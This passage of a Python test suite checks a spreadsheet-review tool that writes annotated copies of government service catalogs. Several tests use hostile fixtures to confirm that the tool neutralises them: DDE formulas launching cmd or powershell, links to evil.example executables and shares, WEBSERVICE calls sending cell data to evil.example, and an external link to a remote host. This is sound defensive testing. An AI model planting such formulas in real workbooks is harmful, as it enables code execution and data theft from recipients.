    _write_xlsm(source, tmp_path / "vbaProject.bin")
    read = Workbook(source, "xlsm", (Sheet(SHEET, [["事项名称"], ["教师资格认定"]], [1, 2]),))
    layout = SheetLayout(sheet=SHEET, header_rows=(1,),
                         columns={"事项名称": 1, "事项类型": 2, "实施部门": 3, "设定依据": 4},
                         kind="items")
    f = finding("ex-officio-item", sheet=SHEET, row=2, column="事项类型", cell="B2",
                item="教师资格认定", value="行政处罚")
    item = ItemResult(SHEET, 2, "教师资格认定", None, "rejected", reasons=(f.message,))
    review = FileReview(str(source), "4" * 64, "xlsm", "rejected", "浙江省教育厅", (item,), (f,))
    out = write_marked_copy(source, read, [layout], review, tmp_path / "教育厅-标注版.xlsx",
                            keep_vba=keep_vba)
    assert out == tmp_path / f"教育厅-标注版{suffix}"
    with zipfile.ZipFile(out) as z:
        assert ("xl/vbaProject.bin" in z.namelist()) is keep_vba
        types = z.read("[Content_Types].xml").decode()
    assert ("macroEnabled" in types) is keep_vba
    with out.open("rb") as fh:
        ws = openpyxl.load_workbook(fh)[SHEET]
    assert ws["B2"].fill.fgColor.rgb == RED
    assert ws["A1"].font.b is True
    assert ws["E1"].value == OPINION_HEADER


def test_findings_that_point_nowhere_are_listed_on_the_summary(tmp_path: Path) -> None:
    """An unknown sheet or an impossible cell is not lost: the summary lists it."""
    source = tmp_path / "s.xlsx"
    _make_source(source)
    stray = (
        finding("invalid-phone", sheet="不存在的表", row=5, column="咨询电话", cell="U5",
                item="保安员证核发", value="找综合处"),
        finding("invalid-phone", sheet=SHEET, row=5, column="咨询电话", cell="XFE5",
                item="保安员证核发", value="找综合处"),
    )
    out = write_marked_copy(source, _read(source), [LAYOUT], _review(stray), tmp_path / "m.xlsx")
    wb = openpyxl.load_workbook(out)
    assert _fills(wb[SHEET], range(1, 12), range(1, 10)) == {}
    ws = wb[SUMMARY_TITLE]
    title = "未能定位到单元格的问题"
    header = next(c.row for row in ws.iter_rows() for c in row if c.value == title)
    listed = [[ws.cell(r, c).value for c in (1, 2, 3)] for r in (header + 2, header + 3)]
    assert listed == [["不存在的表", 5, "咨询电话不规范"], [SHEET, 5, "咨询电话不规范"]]


def test_hidden_rows_columns_and_sheets_holding_a_mark_are_shown(tmp_path: Path) -> None:
    """A department told to fix row 6 must see row 6: a marked cell's hidden row, column
    (split out of a hidden range, keeping its width) and sheet are shown and named on the
    summary; what holds no mark stays hidden."""
    source = tmp_path / "省公安厅-第二批.xlsx"
    _make_source(source)
    wb = openpyxl.load_workbook(source)
    ws = wb[SHEET]
    ws.row_dimensions[6].hidden = True  # G6 and D5:D6 (anchor D5) are marked
    ws.row_dimensions[7].hidden = True  # C7, E7 are marked
    ws.row_dimensions[9].hidden = True  # no mark
    ws.column_dimensions["F"] = ColumnDimension(ws, min=6, max=7, width=14, hidden=True)
    spare = wb.create_sheet("备用")
    spare["B2"] = "户口迁移审批"
    spare.sheet_state = "hidden"
    wb.save(source)
    findings = (*_findings(),
                finding("missing-value", sheet="备用", row=2, column="实施部门", cell="D2",
                        item="户口迁移审批", shown=""))
    out = write_marked_copy(source, _read(source), [LAYOUT], _review(findings),
                            tmp_path / "标注版.xlsx")
    marked = openpyxl.load_workbook(out)
    ws = marked[SHEET]
    assert not ws.row_dimensions[6].hidden
    assert not ws.row_dimensions[7].hidden
    assert ws.row_dimensions[9].hidden
    dims = {d.min: (d.max, d.width, d.hidden) for d in ws.column_dimensions.values()
            if d.min in (6, 7)}
    assert dims == {6: (6, 14, True), 7: (7, 14, False)}  # G6 is marked, F is not
    assert marked["备用"].sheet_state == "visible"
    assert marked["下拉"].sheet_state == "hidden"
    note = next(c.value for row in marked[SUMMARY_TITLE].iter_rows() for c in row
                if isinstance(c.value, str) and c.value.startswith("说明"))
    assert note.endswith("原表隐藏的工作表「备用」，「事项清单」第6至7行、G列有标注的问题，"
                         "本表已取消隐藏。")


def test_in_cell_rich_text_is_kept_and_formula_like_rich_text_stays_text(
    tmp_path: Path,
) -> None:
    """A red run a department put inside a cell survives the marked copy; rich text that
    starts with = gets the quote prefix like plain text."""
    from openpyxl.cell.rich_text import CellRichText, TextBlock
    from openpyxl.cell.text import InlineFont

    source = tmp_path / "省公安厅-第二批.xlsx"
    _make_source(source)
    wb = openpyxl.load_workbook(source, rich_text=True)
    ws = wb[SHEET]
    red = InlineFont(color="FFFF0000", b=True)
    ws["E7"] = CellRichText(["根据有关规定", TextBlock(red, "（待补充）")])  # marked (E7)
    ws["B6"] = CellRichText(["=公章刻制", TextBlock(red, "（修改）")])
    wb.save(source)
    out = write_marked_copy(source, _read(source), [LAYOUT], _review(_findings()),
                            tmp_path / "标注版.xlsx")
    marked = openpyxl.load_workbook(out, rich_text=True)
    ws = marked[SHEET]
    value = ws["E7"].value
    assert isinstance(value, CellRichText)
    assert str(value) == "根据有关规定（待补充）"
    run = value[1]
    assert (run.text, run.font.color.rgb, run.font.b) == ("（待补充）", "FFFF0000", True)
    assert ws["E7"].fill.fgColor.rgb == RED
    assert ws["E7"].comment.text.startswith("【设定依据未引用法规】第7行「设定依据」")
    assert str(ws["B6"].value) == "=公章刻制（修改）"
    assert ws["B6"].quotePrefix


def test_formulas_reaching_outside_become_the_values_read(tmp_path: Path) -> None:
    """A DDE formula (=cmd|' /C calc'!A0 showing a phone number), a HYPERLINK to a file:// exe
    and a defined name calling cmd come back in the marked copy as the values the review
    read, not live; the department's own sums stay formulas."""
    import xlsxwriter

    from catalog_check.review import review_file

    header = ["序号", "事项名称", "事项类型", "实施部门", "设定依据", "受理条件", "申请材料",
              "办理流程", "承诺办结时限", "跑动次数", "咨询电话", "备注"]
    row = [1, "保安服务公司设立许可", "行政许可", "浙江省公安厅", "《保安服务管理条例》第八条",
           "有不低于人民币100万元的注册资本", "1.设立申请书", "受理→审查→决定", "10个工作日", 1]
    source = tmp_path / "省公安厅-第二批.xlsx"
    book = xlsxwriter.Workbook(str(source))
    ws = book.add_worksheet("事项清单")
    ws.write_row(0, 0, header)
    ws.write_row(1, 0, row)
    ws.write_formula(1, 10, "=cmd|' /C calc'!A0", None, "0571-87280114")
    ws.write_formula(1, 11, '=HYPERLINK("file://evil.example/x.exe","办事指南")', None, "办事指南")
    ws.write_formula(2, 9, "=SUM(J2:J2)", None, 1)
    ws.write_formula(2, 11, '=A2&"|"&B2', None, "1|保安服务公司设立许可")  # a "|" in a text
    ws.write_formula(1, 12, '=_xlfn.IMAGE("https://tracker.example/p.png")', None, "")
    book.define_name("审核", "=cmd|' /C powershell'!A0")
    book.define_name("合计", "=事项清单!$J$2")
    book.close()
    full = review_file(source)
    out = write_marked_copy(source, full.workbook, full.tables.layouts, full.file,
                            tmp_path / "m.xlsx")
    wb = openpyxl.load_workbook(out)
    sheet = wb["事项清单"]
    assert (sheet["K2"].data_type, sheet["K2"].value) == ("s", "0571-87280114")
    assert (sheet["L2"].data_type, sheet["L2"].value) == ("s", "办事指南")
    assert (sheet["J3"].data_type, sheet["J3"].value) == ("f", "=SUM(J2:J2)")
    assert (sheet["L3"].data_type, sheet["L3"].value) == ("f", '=A2&"|"&B2')
    assert sheet["M2"].data_type != "f"  # IMAGE fetches its URL when the copy is opened
    assert "审核" not in wb.defined_names
    assert wb.defined_names["合计"].attr_text == "事项清单!$J$2"


def test_quoted_sheet_names_hide_no_outward_formula(tmp_path: Path) -> None:
    """A sheet may be named x"y: its " paired with the next one hid cmd|…, WEBSERVICE( and
    HYPERLINK( between two such names, and the marked copy kept them live. Links to a share or
    a program, and conditional formats and validations that fetch, are dropped too; a web
    link and the department's own rule stay."""
    from openpyxl.formatting.rule import ColorScaleRule, FormulaRule
    from openpyxl.worksheet.datavalidation import DataValidation

    from catalog_check.review import review_file

    source = tmp_path / "省公安厅-第二批.xlsx"
    _make_source(source)
    wb = openpyxl.load_workbook(source)
    ws = wb[SHEET]
    wb.create_sheet('x"y')["A1"] = 1
    wb.create_sheet('p"q')["A1"] = 1
    ws["K5"] = """='x"y'!A1&cmd|'/c calc'!A0&'p"q'!A1"""
    ws["K6"] = """=N('x"y'!A1)+LEN(WEBSERVICE("http:"&"//evil.example/w?"&B6))+N('p"q'!A1)"""
    ws["K7"] = """='x"y'!A1&HYPERLINK("file:"&"//evil.example/x.exe","说明")&'p"q'!A1"""
    ws["K8"] = """='x"y'!A1&"it's"&'p"q'!A1"""  # texts and names only: stays
    ws["K9"] = "='[1]My Sheet'!A1"  # another workbook, its sheet name quoted
    ws["B6"].hyperlink = r"\\evil.example\share\steal.xlsx"
    ws["C5"].hyperlink = "file:///C:/Windows/System32/calc.exe"
    ws["C6"].hyperlink = "http://www.zjzwfw.gov.cn/"
    ws.conditional_formatting.add(
        "A5:A6", FormulaRule(formula=['ISNUMBER(WEBSERVICE("http://evil.example/cf"))']))
    ws.conditional_formatting.add("B5:B6", FormulaRule(formula=['LEN(B5)>30']))
    ws.conditional_formatting.add("J5:J6", ColorScaleRule(
        start_type="formula", start_value='LEN(WEBSERVICE("http://evil.example/s"))',
        start_color="FFFFFFFF", end_type="max", end_color="FFFF0000"))
    fetch = DataValidation(type="custom", formula1='ISNUMBER(WEBSERVICE("http://e.example/v"))')
    ws.add_data_validation(fetch)
    fetch.add("D5:D6")
    own = DataValidation(type="list", formula1='"行政许可,公共服务"')
    ws.add_data_validation(own)
    own.add("C5:C6")
    wb.save(source)
    full = review_file(source)
    out = write_marked_copy(source, full.workbook, full.tables.layouts, full.file,
                            tmp_path / "m.xlsx")
    sheet = openpyxl.load_workbook(out)[SHEET]
    assert [sheet[c].data_type for c in ("K5", "K6", "K7", "K9")] == ["n", "n", "n", "n"]
    assert (sheet["K8"].data_type, sheet["K8"].value) == ("f", """='x"y'!A1&"it's"&'p"q'!A1""")
    assert sheet["B6"].hyperlink is None
    assert sheet["C5"].hyperlink is None
    assert sheet["C6"].hyperlink.target == "http://www.zjzwfw.gov.cn/"
    assert [r.formula for cf in sheet.conditional_formatting for r in cf.rules] == [["LEN(B5)>30"]]
    assert [v.formula1 for v in sheet.data_validations.dataValidation] == ['"行政许可,公共服务"']


def test_links_to_other_workbooks_are_not_written_back(tmp_path: Path) -> None:
    """An external link part (file:///\\\\host\\share\\x.xlsx, which Excel offers to update,
    reaching that host) is not in the marked copy; its formula is the value read."""
    import zipfile

    from catalog_check.review import review_file

    source = tmp_path / "省公安厅-第二批.xlsx"
    _make_source(source)
    wb = openpyxl.load_workbook(source)
    wb[SHEET]["K5"] = "=[1]Sheet1!A1"
    wb.save(source)
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    with zipfile.ZipFile(source) as zin:
        parts = {i.filename: zin.read(i.filename) for i in zin.infolist()}
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rIdX1"/>'
        b"</externalReferences>")
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", f'<Relationship Id="rIdX1" Type="{rel}/externalLink" '
        'Target="externalLinks/externalLink1.xml"/></Relationships>'.encode())
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType='
        b'"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
        b"</Types>")
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="{ns}" xmlns:r="{rel}"><externalBook r:id="rId1"><sheetNames>'
        '<sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>').encode()
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{rel}/externalLinkPath" '
        'Target="file:///\\\\203.0.113.9\\share\\x.xlsx" TargetMode="External"/>'
        "</Relationships>").encode()
    with zipfile.ZipFile(source, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in parts.items():
            zout.writestr(name, data)
    full = review_file(source)
    out = write_marked_copy(source, full.workbook, full.tables.layouts, full.file,
                            tmp_path / "m.xlsx")
    with zipfile.ZipFile(out) as z:
        assert not [n for n in z.namelist() if "externalLink" in n]
        assert b"203.0.113.9" not in b"".join(z.read(n) for n in z.namelist())
    assert openpyxl.load_workbook(out)[SHEET]["K5"].data_type != "f"


def test_a_long_formula_is_judged_at_once(tmp_path: Path) -> None:
    """=[.[.[.… 16,000 characters long (28 s for twenty such cells) is judged in linear time."""
    from guards import no_hang

    from catalog_check.reports.marked import _outward

    with no_hang():
        assert not _outward("=" + "[." * 16_000)
        assert _outward("=" + "[." * 16_000 + "[x.xlsx]Sheet1!A1")


def test_a_row_under_a_name_merged_down_is_marked_on_its_own_cells(tmp_path: Path) -> None:
    """社会团体登记 merged down over its three 子项 rows: row 4's findings (a duplicate of row 2,
    three trips with no 例外说明 column) were marked on B2, row 2's cell, where a department
    would mend the wrong item. They go to row 4's own cells: its 子项名称, its 跑动次数."""
    from catalog_check.review import review_file

    header = ["序号", "事项名称", "子项名称", "事项类型", "实施部门", "设定依据", "受理条件",
              "申请材料", "办理流程", "承诺办结时限", "跑动次数", "咨询电话"]
    common = ["行政许可", "浙江省民政厅", "《社会团体登记管理条例》第九条",
              "有50个以上的个人会员", "1.登记申请书", "受理→审查→决定", "10个工作日"]
    source = tmp_path / "省民政厅-第二批.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = SHEET
    ws.append(header)
    for seq, sub, trips in ((1, "成立登记", 1), (2, "变更登记", 1), (3, "成立登记", 3)):
        ws.append([seq, "社会团体登记" if seq == 1 else None, sub, *common, trips,
                   "0571-87054321"])
    ws.merge_cells("B2:B4")
    wb.save(source)
    full = review_file(source)
    assert {(f.code, f.row) for f in full.file.findings} == {
        ("duplicate-item", 4), ("trips-exceed-one", 4)}
    out = write_marked_copy(source, full.workbook, full.tables.layouts, full.file,
                            tmp_path / "m.xlsx")
    sheet = openpyxl.load_workbook(out)[SHEET]
    assert sheet["B2"].comment is None
    assert sheet["B2"].fill.fgColor.rgb != RED
    assert "第4行" in sheet["C4"].comment.text
    assert sheet["C4"].fill.fgColor.rgb == RED
    assert "表中没有「例外说明」列（请增加该列）" in sheet["K4"].comment.text
    assert sheet["K4"].comment.text.count("说明理由") == 1  # (said twice before)
    assert sheet["K4"].fill.fgColor.rgb == RED


def test_an_earlier_opinion_column_is_reused_when_the_department_added_one_after_it(
    tmp_path: Path,
) -> None:
    """A department that adds its own column after our 审核意见 (修改说明) and sends the marked
    copy back gets the new opinions in that same 审核意见 column: a second one was added at the
    end and the first kept saying 退回 beside rows that now pass, its words lost from view."""
    from catalog_check.reports.marked import NOTE_MARK

    source = tmp_path / "s.xlsx"
    _make_source(source)
    first = write_marked_copy(source, _read(source), [LAYOUT], _review(_findings()),
                              tmp_path / "first.xlsx")
    wb = openpyxl.load_workbook(first)
    ws = wb[SHEET]
    assert ws["I3"].value == OPINION_HEADER
    assert ws["I8"].value.startswith("退回：")
    ws["J3"] = "修改说明"
    ws["J8"] = "已补充条款"
    ws["I8"] = ws["I8"].value + "\n已与法规处核实"
    wb.save(first)
    only = tuple(f for f in _findings() if f.cell == "C7")
    second = write_marked_copy(first, _read(first), [LAYOUT], _review(only),
                               tmp_path / "second.xlsx")
    ws = openpyxl.load_workbook(second)[SHEET]
    headers = [c.value for c in ws[3]]
    assert headers.count(OPINION_HEADER) == 1, headers
    assert ws["I8"].value == f"通过\n{NOTE_MARK}\n已与法规处核实"
    assert ws["I7"].value.startswith("退回：")
    assert (ws["J3"].value, ws["J8"].value) == ("修改说明", "已补充条款")
    assert (ws["K3"].value, ws["K8"].value) == (None, None)
